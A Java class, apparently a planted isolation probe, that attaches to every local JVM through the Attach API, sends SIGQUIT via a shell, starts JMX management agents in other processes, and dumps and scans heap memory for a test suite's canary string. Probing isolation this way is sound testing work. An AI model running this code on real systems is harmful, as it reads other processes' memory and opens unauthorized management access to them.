package planted;

import com.sun.tools.attach.VirtualMachine;
import com.sun.tools.attach.VirtualMachineDescriptor;
import java.io.IOException;
import java.lang.management.ManagementFactory;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import javax.management.ObjectName;

public final class Attack {
    public static void go() {
        System.out.println("TRIED");
        System.setProperty("jdk.attach.allowAttachSelf", "true");
        // Or each of them would wait for ten seconds.
        System.setProperty("sun.tools.attach.attachTimeout", "200");
        Stream<String> running = ProcessHandle.allProcesses().map(each -> String.valueOf(each.pid()));
        Stream<String> listed = VirtualMachine.list().stream().map(VirtualMachineDescriptor::id);
        Stream.concat(listed, running).distinct().forEach(Attack::attach);
        diagnose("dumpHeap", "/tmp/heap.hprof", true);
        try (var dump = Files.newInputStream(Path.of("/tmp/heap.hprof"))) {
            String text = new String(dump.readNBytes(8 << 20), StandardCharsets.ISO_8859_1);
            if (Pattern.compile("canary" + "-[0-9a-f]{24}").matcher(text).find()) {
                System.out.println("REACHED a word of the suite in the heap");
            }
            Files.delete(Path.of("/tmp/heap.hprof"));
        } catch (IOException refused) {
            System.out.println(refused);
        }
        diagnose("setVMOption", "HeapDumpOnOutOfMemoryError", "true");
    }

    private static void attach(String process) {
        try {
            Files.createFile(Path.of("/tmp/.attach_pid" + process));
            // The signal that makes a machine open its socket, /tmp/.java_pid…, and print its threads.
            new ProcessBuilder("sh", "-c", "kill -QUIT " + (process.equals("1") ? process : "0")).inheritIO().start()
                    .waitFor();
            if (Files.exists(Path.of("/proc", process, "root", "tmp", ".java_pid" + process))) {
                System.out.println("REACHED the door of " + process);
            }
        } catch (IOException | InterruptedException refused) {
            System.out.println(refused);
        }
        try {
            VirtualMachine machine = VirtualMachine.attach(process);
            System.out.println("REACHED the machine " + process + machine.getSystemProperties().size());
            machine.startLocalManagementAgent();
        } catch (Exception | LinkageError refused) {
            System.out.println(refused);
        }
    }

    private static void diagnose(String what, String name, Object value) {
        try {
            Object[] given = {name, value};
            String[] types = {"java.lang.String", value instanceof Boolean ? "boolean" : "java.lang.String"};
            ObjectName bean = new ObjectName("com.sun.management:type=HotSpotDiagnostic");
            ManagementFactory.getPlatformMBeanServer().invoke(bean, what, given, types);
        } catch (Exception refused) {
            System.out.println(refused);
        }
    }
}
